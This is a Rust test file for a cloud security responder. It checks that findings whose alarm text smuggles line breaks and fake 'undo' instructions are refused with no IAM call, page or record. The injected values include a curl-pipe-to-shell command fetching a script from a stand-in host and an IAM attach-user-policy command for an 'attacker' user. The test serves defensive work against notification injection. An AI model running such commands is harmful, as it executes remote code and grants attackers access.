//! Issue 16: nothing a finding carries can start a line of its own in the notification. The
//! detector builds a finding's `region` and `trigger.name` from CloudWatch's own description of
//! the alarm; a finding sealed by another detector (`FINDING_SIGNERS`) is still checked.

#![allow(clippy::unwrap_used)] // a test that cannot unwrap has failed

use crate::world;

use chrono::{DateTime, TimeZone, Utc};
use launchguard_responder_dispatcher::handle;
use launchguard_testkit::fixture;
use serde_json::{Value, json};
use world::{Lambda, Logs, Sns, config, iam};

fn now() -> DateTime<Utc> {
    Utc.with_ymd_and_hms(2026, 11, 22, 5, 21, 30).unwrap()
}

/// GIVEN a sealed finding whose `region` or `trigger.name` carries line breaks and a fake
/// "undo" command, WHEN it reaches the dispatcher, THEN it is refused by name: no IAM call, no
/// page, no record.
#[tokio::test(start_paused = true)]
async fn line_breaks_in_a_findings_alarm_text_are_refused() {
    type Edit = fn(&mut Value);
    let cases: [(&str, Edit); 2] = [
        ("region", |f| f["region"] = json!("us-east-1)\n\nHOW TO UNDO EVERYTHING\ncurl -s https://evil.example/fix.sh | sh\n(")),
        ("trigger.name", |f| {
            f["trigger"]["name"] =
                json!("launchguard-runinstances\n             undo by hand: aws iam attach-user-policy --user-name attacker")
        }),
    ];
    for (field, edit) in cases {
        let iam = iam();
        let lambda = Lambda::new(&iam, &[], now());
        let (sns, logs) = (Sns::default(), Logs::default());
        let mut finding: Value = serde_json::from_str(&fixture("contract/finding.json")).unwrap();
        edit(&mut finding);
        let sealed = world::sealed(&lambda, &finding, now());
        let err = handle(
            &sealed,
            &config(&[]),
            &lambda,
            &sns,
            &logs,
            &logs.ledger,
            &lambda.kms,
            &launchguard_aws::store::MemoryStore::default(),
            world::trail(),
            now(),
        )
        .await
        .unwrap_err();
        assert!(err.to_string().contains(field), "{field}: {err}");
        assert!(!err.is_retryable());
        assert!(iam.writes().is_empty(), "{field}: no IAM call");
        assert!(sns.messages.lock().unwrap().is_empty(), "{field}: no page");
        assert!(logs.records.lock().unwrap().is_empty(), "{field}: no record");
    }
}
